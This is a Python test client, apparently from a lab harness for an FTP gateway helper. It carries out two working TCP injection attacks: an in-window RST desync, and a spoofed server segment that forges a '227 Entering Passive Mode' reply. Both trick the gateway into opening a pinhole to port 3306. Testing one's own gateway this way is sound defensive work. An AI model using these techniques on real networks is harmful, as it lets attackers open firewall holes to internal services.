"""inject: a client that attacks the gateway's FTP helper with crafted TCP
segments on its own control connection (issue 11: resets, directions).

usage: inject.py --dev IFACE [--save PATH] [--wait-file PATH] MODE SERVER

Runs in the client namespace, on its interface IFACE (to the gateway). A
packet socket on IFACE watches the control connection's segments both
ways, so the injector knows both sides' next sequence numbers and the
gateway's MAC address; crafted segments go out the same socket, as
Ethernet frames to the gateway.

  rst-desync   log in; send "CWD 227 Entering Passive Mode (S,12,234)"
               to a server that echoes the path in a 550 cut right before
               it (fake-ftpd --cwd-echo-split); after the "550 ", inject a
               RST from the client 1000 bytes past its next sequence
               number (in the window, not exact: RFC 5961 receivers
               ignore it); then PASV. Reads the 550's tail and the 227
               and saves "ADDR PORT" of the 227 that answers the PASV.
  forge-server log in; send PASV to a server that waits before answering
               (fake-ftpd --pasv-delay) and inject, from the client side,
               a segment that claims to be the server's, at its next
               sequence number: "227 Entering Passive Mode (S,12,234).".
               The gateway forwards it back to us and our stack takes it
               (the server's real 227, as long, is then a duplicate).
               After --settle seconds: NOOP, then PASV; saves "ADDR PORT"
               of the 227 answering that PASV.

Both then wait for --wait-file (at most 60 s) and QUIT. Prints one line
per step; exit status 0 when every step worked, 1 otherwise. Port 3306
(12 * 256 + 234) is the one an attacker wants open. IPv4 only.
"""
import argparse
import os
import socket
import struct
import sys
import threading
import time

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
TCP_FIN, TCP_SYN, TCP_RST, TCP_PSH, TCP_ACK = 0x01, 0x02, 0x04, 0x08, 0x10
FORBIDDEN_PORT = 3306


def say(text):
    print(text, flush=True)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4_tcp(src, dst, sport, dport, seq, ack, flags, payload=b""):
    """An IPv4 packet with a TCP segment, both checksums right."""
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF,
                      ack & 0xFFFFFFFF, 5 << 4, flags, 65535, 0, 0) + payload
    pseudo = s + d + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0x4242, 0, 64,
                     socket.IPPROTO_TCP, 0, s, d)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


class Watch:
    """The control connection as seen on the client's interface."""

    def __init__(self, dev, client, server):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                                  socket.htons(ETH_P_ALL))
        self.sock.bind((dev, 0))
        self.sock.settimeout(0.2)
        self.dev, self.client, self.server = dev, client, server
        self.cport = None
        self.next = {}          # "client"/"server" -> next sequence number
        self.gw_mac = self.my_mac = None
        self.lock = threading.Lock()
        self.stop = False
        threading.Thread(target=self.run, daemon=True).start()

    def run(self):
        while not self.stop:
            try:
                frame, addr = self.sock.recvfrom(65535)
            except socket.timeout:
                continue
            except OSError:
                return
            self.frame(frame)

    def frame(self, f):
        if len(f) < 54 or struct.unpack("!H", f[12:14])[0] != ETH_P_IP:
            return
        ip = f[14:]
        ihl = (ip[0] & 15) * 4
        if ip[9] != socket.IPPROTO_TCP or len(ip) < ihl + 20:
            return
        total = struct.unpack("!H", ip[2:4])[0]
        src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
        tcp = ip[ihl:total]
        sport, dport, seq = struct.unpack("!HHI", tcp[:8])
        flags = tcp[13]
        length = len(tcp) - (tcp[12] >> 4) * 4
        end = seq + length + (1 if flags & (TCP_SYN | TCP_FIN) else 0)
        with self.lock:
            if src == self.client and dst == self.server and dport == 21 \
                    and sport == self.cport:
                self.my_mac, self.gw_mac = f[6:12], f[0:6]
                self.advance("client", end)
            elif src == self.server and dst == self.client and sport == 21 \
                    and dport == self.cport:
                self.my_mac, self.gw_mac = f[0:6], f[6:12]
                self.advance("server", end)

    def advance(self, side, end):
        old = self.next.get(side)
        if old is None or (end - old) & 0x80000000 == 0:
            self.next[side] = end & 0xFFFFFFFF

    def wait_for(self, side, value, seconds=5):
        """Until the watch has seen `side` reach sequence number value."""
        deadline = time.time() + seconds
        while time.time() < deadline:
            with self.lock:
                if self.next.get(side) == value & 0xFFFFFFFF:
                    return True
            time.sleep(0.02)
        return False

    def state(self):
        with self.lock:
            return dict(self.next), self.gw_mac, self.my_mac

    def send_ip(self, packet):
        _, gw, me = self.state()
        self.sock.send(gw + me + struct.pack("!H", ETH_P_IP) + packet)


class Control:
    """A plain control connection (the kernel's TCP), read line by line."""

    def __init__(self, server, timeout=8):
        self.s = socket.create_connection((server, 21), timeout=timeout)
        self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""

    def port(self):
        return self.s.getsockname()[1]

    def send(self, line):
        say("-> " + line)
        self.s.sendall(line.encode() + b"\r\n")

    def read_exact(self, n):
        while len(self.buf) < n:
            chunk = self.s.recv(4096)
            if not chunk:
                raise EOFError("control connection closed")
            self.buf += chunk
        data, self.buf = self.buf[:n], self.buf[n:]
        return data

    def line(self):
        while b"\n" not in self.buf:
            chunk = self.s.recv(4096)
            if not chunk:
                raise EOFError("control connection closed")
            self.buf += chunk
        line, _, self.buf = self.buf.partition(b"\n")
        text = line.rstrip(b"\r").decode("latin-1")
        say("<- " + text)
        return text

    def expect(self, code):
        text = self.line()
        if not text.startswith(code):
            raise RuntimeError("want %s, got %r" % (code, text))
        return text


def login(c, w):
    c.expect("220")
    c.send("USER anonymous")
    c.expect("331")
    c.send("PASS lab@")
    c.expect("230")
    time.sleep(0.2)             # the watch thread reads the same frames


def pasv_port(text):
    inner = text[text.index("(") + 1:text.index(")")]
    n = [int(x) for x in inner.split(",")]
    return "%d.%d.%d.%d" % tuple(n[:4]), n[4] * 256 + n[5]


def rst_desync(a, c, w):
    h = a.server.replace(".", ",")
    c.send("CWD 227 Entering Passive Mode (%s,12,234)" % h)
    head = c.read_exact(4)
    say("<- %r (the 550, cut before the echoed path)" % head)
    if head != b"550 ":
        raise RuntimeError("want '550 ' first, got %r" % head)
    time.sleep(0.2)             # the watch thread reads the same frames
    nxt, gw, _ = w.state()
    if "client" not in nxt or "server" not in nxt or gw is None:
        raise RuntimeError("the watch has not seen the connection: %r" % nxt)
    seq = nxt["client"] + 1000
    w.send_ip(ipv4_tcp(a.client, a.server, c.port(), 21, seq, nxt["server"],
                       TCP_RST | TCP_ACK))
    say("injected RST client -> server seq %u (next is %u), ack %u"
        % (seq & 0xFFFFFFFF, nxt["client"], nxt["server"]))
    time.sleep(0.3)
    c.send("PASV")
    tail = c.line()             # the 550's tail, "227 ...: No such file"
    if "No such file" not in tail:
        raise RuntimeError("want the 550's tail, got %r" % tail)
    return pasv_port(c.expect("227"))


def forge_server(a, c, w):
    h = a.server.replace(".", ",")
    before, gw, _ = w.state()
    if "client" not in before or "server" not in before or gw is None:
        raise RuntimeError("the watch has not seen the connection: %r" % before)
    c.send("PASV")
    if not w.wait_for("client", before["client"] + len("PASV\r\n")):
        raise RuntimeError("the watch did not see the PASV go out")
    nxt, _, _ = w.state()
    forged = ("227 Entering Passive Mode (%s,12,234).\r\n" % h).encode()
    w.send_ip(ipv4_tcp(a.server, a.client, 21, c.port(), nxt["server"],
                       nxt["client"], TCP_PSH | TCP_ACK, forged))
    say("injected from the client side a server segment seq %u: %r"
        % (nxt["server"], forged))
    # Our own stack takes the forged copy (the gateway forwards it to us)
    # and acknowledges it; the real reply, as long, is a duplicate to it.
    c.expect("227")
    time.sleep(a.settle)        # the server's real 227 comes and goes
    # The session goes on: its next lines are read again (after the
    # acknowledgement of bytes ftpgated did not read, the first line is
    # not trusted: the NOOP's reply), the next PASV gets its pinhole.
    c.send("NOOP")
    c.expect("2")
    c.send("PASV")
    return pasv_port(c.expect("227"))


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--dev", required=True)
    p.add_argument("--client", required=True, help="this end's address")
    p.add_argument("--save")
    p.add_argument("--wait-file")
    p.add_argument("--settle", type=float, default=2.0,
                   help="forge-server: seconds for the real reply to pass")
    p.add_argument("mode", choices=["rst-desync", "forge-server"])
    p.add_argument("server")
    a = p.parse_args()
    w = Watch(a.dev, a.client, a.server)
    try:
        c = Control(a.server)
        w.cport = c.port()
        login(c, w)
        addr, port = (rst_desync if a.mode == "rst-desync" else forge_server)(a, c, w)
        say("announced %s %d" % (addr, port))
        if a.save:
            with open(a.save + ".tmp", "w") as f:
                f.write("%s %d\n" % (addr, port))
            os.rename(a.save + ".tmp", a.save)
        if a.wait_file:
            deadline = time.time() + 60
            while not os.path.exists(a.wait_file) and time.time() < deadline:
                time.sleep(0.05)
        c.send("QUIT")
        c.line()
    except (OSError, EOFError, RuntimeError, ValueError) as e:
        say("FAILED: %s" % e)
        return 1
    finally:
        w.stop = True
    return 0


if __name__ == "__main__":
    sys.exit(main())
